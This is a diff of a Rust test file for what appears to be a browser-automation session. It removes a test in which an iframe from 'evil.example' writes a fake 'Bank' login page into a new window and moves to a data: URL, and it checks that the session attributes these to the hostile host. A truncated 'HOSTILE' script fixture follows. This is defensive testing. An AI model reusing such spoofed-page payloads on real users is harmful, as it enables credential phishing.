@@ -220,47 +220,6 @@ async fn a_frame_that_takes_the_focus_gets_nothing_of_what_is_typed_elsewhere() 
     assert!(!line("textbox \"Word\"").await.contains("secret"), "{}", line("Word").await);
 }
 
-const OPENING: &[(&str, &str)] = &[
-    ("/", "<title>Shop</title><iframe src='http://evil.example/ad' title=Ad style='width: 500px'></iframe>"),
-    (
-        "/ad",
-        "<button onclick=\"window.open('').document.write('<title>Bank</title><input aria-label=Word>')\">Win</button>\
-         <button onclick=\"location = 'data:text/html,<input aria-label=Moved>'\">Move</button>",
-    ),
-];
-
-#[tokio::test(flavor = "multi_thread")]
-async fn what_a_frame_writes_into_pages_without_a_host_is_its_own() {
-    let rig = rig(OPENING).await;
-    rig.network.server("93.184.216.66:80", server(OPENING).await);
-    let session = &rig.session;
-    session.open("http://shop.example/", false, end()).await.unwrap();
-    let host = |state: &crate::browser::state::State| state.current().and_then(|tab| tab.host());
-    session.click(rig.reference("button \"Win\"").await, false).await.unwrap();
-    session.when(end(), |state| (host(state)? == "evil.example").then_some(())).await.unwrap();
-    assert!(matches!(session.look().await, Err(SessionError::NotShown(NotShown::NotAllowed(_)))));
-    session.choose(1).await.unwrap();
-    session.click(rig.reference("button \"Move\"").await, false).await.unwrap();
-    let has_moved = |state: &crate::browser::state::State| {
-        state.current()?.frames.values().any(|frame| frame.url.starts_with("data:")).then_some(())
-    };
-    session.when(end(), has_moved).await.unwrap();
-    let moved = async || {
-        let (snapshot, _) = session.look().await.unwrap();
-        snapshot.lines.iter().find(|line| line.text.contains("Moved"))?.reference
-    };
-    let last = end();
-    let moved = loop {
-        assert!(Instant::now() < last, "the field comes");
-        if let Some(moved) = moved().await {
-            break moved;
-        }
-    };
-    assert_eq!(session.host_of(moved).as_deref(), Some("evil.example"));
-    session.focus(moved).await.unwrap();
-    assert_eq!(session.focused_host().await.unwrap().as_deref(), Some("evil.example"));
-}
-
 const HOSTILE: &str = r#"<title>Hostile</title><body><script>
   const at = 'LISTENER', away = what => new Promise(done => what(done));
   const image = new Image(), frame = document.createElement('iframe'), file = document.createElement('iframe');
